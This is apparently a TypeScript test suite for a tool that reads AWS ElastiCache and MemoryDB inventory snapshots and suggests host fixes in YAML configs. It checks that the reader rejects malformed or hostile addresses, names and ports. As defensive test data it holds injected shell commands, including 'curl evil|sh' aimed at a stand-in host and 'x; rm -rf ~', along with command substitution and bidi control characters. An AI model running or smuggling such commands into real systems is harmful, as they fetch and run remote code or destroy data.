import assert from "node:assert/strict";
import { classifyHost } from "../../../../src/core/hosts/endpoint";
import { InventoryIndex } from "../../../../src/core/inventory/inventoryIndex";
import { readSnapshots } from "../../../../src/core/inventory/snapshot";
import { findMentions } from "../../../../src/core/mentions/find";
import type { Inventory } from "../../../../src/core/model/inventory";
import { analyze } from "../../../../src/core/rules/analyze";
import { applyEdits } from "../../../../src/core/rules/fix";
import { SourceText } from "../../../../src/core/syntax/sourceText";
import { fc, runs } from "../../properties";
import { account, group, hostsOf, inventoriesOf, memoryDb, serverless, single } from "../accountBuilder";

type Json = Record<string, unknown>;

/** The same answer with other values at the members of this name, wherever they stand. */
function changed(answer: Json, member: string, value: unknown): Json {
  const text = JSON.stringify(answer, (key, old) => (key === member ? value : old));
  return JSON.parse(text) as Json;
}

const NODE = hostsOf("tito").node("tito-001");

function findingsOf(text: string, inventories: readonly Inventory[]) {
  return analyze(text, findMentions(new SourceText(text, "a.yml")), new InventoryIndex(inventories), {
    rules: {},
    ignoredHosts: [],
  }).findings;
}

/** Every text of a value, at any depth. */
function textsOf(value: unknown): string[] {
  if (typeof value === "string") return [value];
  return typeof value === "object" && value !== null ? Object.values(value).flatMap(textsOf) : [];
}

/** What reorders, hides or breaks the text around it. */
const UNFIT = /[\p{Cc}\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\u{e0000}-\u{e007f}]/u;

describe("an address of an account that is no hostname", () => {
  for (const address of [
    'evil.example.com"\nrun: curl evil|sh #',
    "evil.example.com",
    "tito.x7k2qf.ng.0001.use1.cache.amazonaws.com.evil.example",
    "evilcache.amazonaws.com",
    "tito.x7k2qf.ng.0001.use1.cache.amazonaws.com:6379",
    "redis://tito.x7k2qf.ng.0001.use1.cache.amazonaws.com",
    "a\u202e.x7k2qf.ng.0001.use1.cache.amazonaws.com",
    "$(x).x7k2qf.ng.0001.use1.cache.amazonaws.com",
    `${"a".repeat(64)}.x7k2qf.ng.0001.use1.cache.amazonaws.com`,
  ])
    it(`is no endpoint: ${JSON.stringify(address)}`, () => {
      const answer = changed(account(group("tito")), "PrimaryEndpoint", { Address: address, Port: 6379 });
      const reading = readSnapshots([{ name: "a.json", text: JSON.stringify(answer), time: null }]);
      assert.ok(reading.ok);
      const [inventory] = reading.inventories;
      assert.equal(inventory?.replicationGroups[0]?.shards[0]?.primary, null);
      assert.equal(inventory.coverage.replicationGroups, "complete");
      assert.equal(inventory.problems[0]?.kind, "protocol");
      assert.equal(
        reading.warnings[0],
        "a.json: DescribeReplicationGroups in us-east-1 holds 1 address that is no hostname of ElastiCache or MemoryDB; left out. Save the snapshot again as the AWS CLI prints it.",
      );
      const [finding] = findingsOf(`host: "${NODE}"\n`, reading.inventories);
      assert.equal(finding?.rule, "primary-node");
      assert.deepEqual(
        finding.fixes.map(({ newHost, safe }) => [newHost, safe]),
        [[hostsOf("tito").reader, false]],
      );
    });

  it("is none either where an inventory was made by other means", () => {
    const [inventory] = inventoriesOf(account(group("tito")));
    const [found] = inventory?.replicationGroups ?? [];
    assert.ok(inventory && found);
    const shards = found.shards.map((shard) => ({ ...shard, primary: { host: 'x"\nrun: y', port: 6379 } }));
    const odd = { ...inventory, replicationGroups: [{ ...found, shards }] };
    const [finding] = findingsOf(`host: "${NODE}"\n`, [odd]);
    assert.ok(finding?.fixes.every(({ newHost }) => newHost === hostsOf("tito").reader));
  });

  it("leaves the address out that an emulator gives, and keeps IP addresses", () => {
    for (const [address, host] of [
      ["localhost.localstack.cloud", null],
      ["10.0.4.17", "10.0.4.17"],
      ["2001:DB8::1", "2001:db8::1"],
      [`${NODE.toUpperCase()}.`, NODE],
    ] as const) {
      const [inventory] = inventoriesOf(changed(account(single("lone")), "Address", address));
      assert.equal(inventory?.cacheClusters[0]?.nodes[0]?.endpoint?.host ?? null, host);
    }
  });

  it("has no port but a whole number from 1 to 65535", () => {
    for (const port of [0, -1, 65_536, 1.5, "6379", null, "6379\nrun: x"]) {
      const [inventory] = inventoriesOf(changed(account(group("tito")), "Port", port));
      assert.equal(inventory?.replicationGroups[0]?.shards[0]?.primary?.port, null);
    }
  });
});

describe("an item of an account whose name is none", () => {
  for (const [member, list, answer] of [
    ["ReplicationGroupId", "replicationGroups", group("tito")],
    ["NodeGroupId", "replicationGroups", group("tito")],
    ["CacheClusterId", "cacheClusters", single("lone")],
    ["CacheNodeId", "cacheClusters", single("lone")],
    ["ServerlessCacheName", "serverlessCaches", serverless("flags")],
    ["Name", "memoryDbClusters", memoryDb("orders")],
  ] as const)
    it(`is left out, and nothing is called missing by its list: ${member}`, () => {
      for (const name of ["x; rm -rf ~", "$(x)", "a\u202eb", "a b", "../x", "-x", "a".repeat(64)]) {
        const [inventory] = inventoriesOf(changed(account(answer), member, name));
        assert.deepEqual(inventory?.[list], []);
        assert.equal(inventory?.coverage[list], "failed");
        assert.equal(inventory?.problems.find((problem) => problem.list === list)?.kind, "protocol");
      }
    });
});

describe("any texts of an account", () => {
  const text = fc.oneof(
    { weight: 3, arbitrary: fc.string({ unit: "binary" }) },
    fc.constantFrom(
      'x"\ny: z',
      "a\u202eb",
      "a\u0007b",
      "x.cache.amazonaws.com",
      "$(x)",
      "a.b0c1d2.0001.use1.cache.amazonaws.com",
    ),
  );
  const answer = account(group("tito"), single("lone"), serverless("flags"), memoryDb("orders"), {
    Events: [{ SourceIdentifier: "tito", Message: "Failover", Date: "2026-11-20T05:02:54.731Z" }],
    UpdateActions: [{ ReplicationGroupId: "tito", ServiceUpdateName: "patch" }],
    GlobalReplicationGroups: [
      {
        GlobalReplicationGroupId: "ldgnf-orders",
        Members: [{ ReplicationGroupId: "tito", ReplicationGroupRegion: "us-east-1" }],
      },
    ],
  });
  const count = textsOf(answer).length;
  const uses = [
    NODE,
    hostsOf("tito").node("tito-002"),
    hostsOf("tito").primary,
    hostsOf("lone").node("lone"),
    "orders-0001-001.orders.m3k9qz.memorydb.us-east-1.amazonaws.com",
  ];
  const document = uses.map((host) => `- rediss://${host}:6390\n`).join("");

  it("reach no message, no command and no file but as names and hosts", () => {
    let fixes = 0;
    fc.assert(
      fc.property(fc.dictionary(fc.nat(count).map(String), text, { maxKeys: 4 }), (others) => {
        let at = 0;
        const odd = JSON.stringify(answer, (_key, value) =>
          typeof value === "string" ? (others[at++] ?? value) : value,
        );
        const reading = readSnapshots([{ name: "a.json", text: odd, time: null }]);
        if (!reading.ok) return;
        for (const each of textsOf(reading)) assert.doesNotMatch(each, UNFIT);
        for (const { message, remedy, fixes: offered } of findingsOf(document, reading.inventories)) {
          for (const each of [message, remedy?.title ?? ""]) assert.doesNotMatch(each, UNFIT);
          assert.match(remedy?.command.replaceAll(" && ", " ") ?? "", /^[A-Za-z0-9 ._@+=,-]*$/);
          for (const { newHost, edits } of offered) {
            fixes++;
            if (newHost !== null) assert.equal(classifyHost(newHost)?.host, newHost);
            for (const { newText } of edits)
              assert.ok(newText === newHost || /^(?:\d{1,5}|rediss?)$/.test(newText), newText);
            assert.equal(applyEdits(document, edits).text.split("\n").length, document.split("\n").length);
          }
        }
      }),
      { numRuns: runs(600) },
    );
    assert.ok(fixes > 500);
  });
});
